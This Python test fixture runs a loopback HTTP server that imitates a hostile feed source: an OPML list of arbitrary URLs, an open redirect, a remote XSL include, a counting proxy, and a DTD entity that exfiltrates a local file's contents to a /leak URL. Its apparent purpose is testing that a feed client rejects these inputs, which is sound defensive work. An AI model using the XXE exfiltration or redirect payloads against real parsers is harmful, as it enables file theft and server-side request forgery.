#!/usr/bin/env python3
"""What a stranger controls, on 127.0.0.1: a subscription list that names
whatever the test asks (/list.opml?u=URL&u=URL, and the same at /list, a
URL that does not say OPML), a feed (/feed.xml), a redirect to any URL
(/redirect?to=URL), a stylesheet to include (/inc.xsl), a DTD whose entity
would send the including document's %file; back in a URL (/evil.dtd), and a
forward proxy: a request in absolute form (GET http://host/path) is answered
with a feed and counted.

/log answers the paths of every request so far (proxied ones as they were
asked), one per line, so a test can tell that nothing reached the server.
Prints the port; exits when its stdin closes.
"""
import http.server
import threading
import urllib.parse
from xml.sax.saxutils import quoteattr

from loopback import serve

LOG = []
LOCK = threading.Lock()

FEED = """<?xml version="1.0"?>
<rss version="2.0"><channel><title>%s</title><link>http://hostile.example/</link>
<item><title>%s</title><link>http://hostile.example/%s</link><guid>urn:hostile:%s</guid>
<pubDate>Mon, 30 Nov 2026 10:00:00 GMT</pubDate></item></channel></rss>
"""


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def send(self, status, body, content_type="application/xml", headers=()):
        data = body.encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        if self.path != "/log":
            with LOCK:
                LOG.append(self.path)
        if self.path.startswith("http://") or self.path.startswith("https://"):
            self.send(200, FEED % ("Through the proxy", "Proxied entry", "proxied", "proxied"))
            return
        url = urllib.parse.urlsplit(self.path)
        query = urllib.parse.parse_qs(url.query)
        if url.path in ("/list.opml", "/list"):
            # f=1: each outline also names filter settings, which a list that is not a local file may not give.
            settings = ' filter="kept" exclude="dropped"' if query.get("f") else ""
            outlines = "".join(
                '<outline text="feed %d" xmlUrl=%s%s/>\n' % (n, quoteattr(u), settings)
                for n, u in enumerate(query.get("u", []))
            )
            self.send(200, '<?xml version="1.0"?>\n<opml version="2.0"><head><title>Hostile list</title></head>'
                      "<body>\n%s</body></opml>\n" % outlines, "text/x-opml")
        elif url.path == "/feed.xml":
            self.send(200, FEED % ("Plain feed", "Plain entry", "plain", "plain"))
        elif url.path == "/inc.xsl":
            self.send(200, '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
                      '<xsl:template name="x"><p>REMOTE INCLUDE</p></xsl:template></xsl:stylesheet>')
        elif url.path == "/evil.dtd":
            port = self.server.server_address[1]
            self.send(200, '<!ENTITY %% send SYSTEM "http://127.0.0.1:%d/leak?%%file;">' % port, "application/xml-dtd")
        elif url.path == "/redirect":
            self.send(302, "", headers=[("Location", query["to"][0])])
        elif url.path == "/log":
            with LOCK:
                text = "".join(path + "\n" for path in LOG)
            self.send(200, text, "text/plain")
        else:
            self.send(404, "not here", "text/plain")


serve(Handler)
